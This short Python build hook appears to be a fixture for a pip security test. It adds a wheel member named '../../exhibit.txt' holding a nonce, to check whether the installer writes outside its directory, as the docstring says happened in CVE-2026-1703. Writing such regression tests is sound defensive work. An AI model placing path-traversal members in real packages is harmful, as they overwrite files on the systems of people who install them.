"""Adds a member whose name leads out of the directory of installation.

pip wrote such a member where it said, above the directory (CVE-2026-1703).
"""

import os
import zipfile

import kit


def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    name = kit.wheel(wheel_directory)
    with kit.attempt("write-member"):
        with zipfile.ZipFile(os.path.join(wheel_directory, name), "a") as archive:
            archive.writestr("../../exhibit.txt", kit.nonce)
    return name
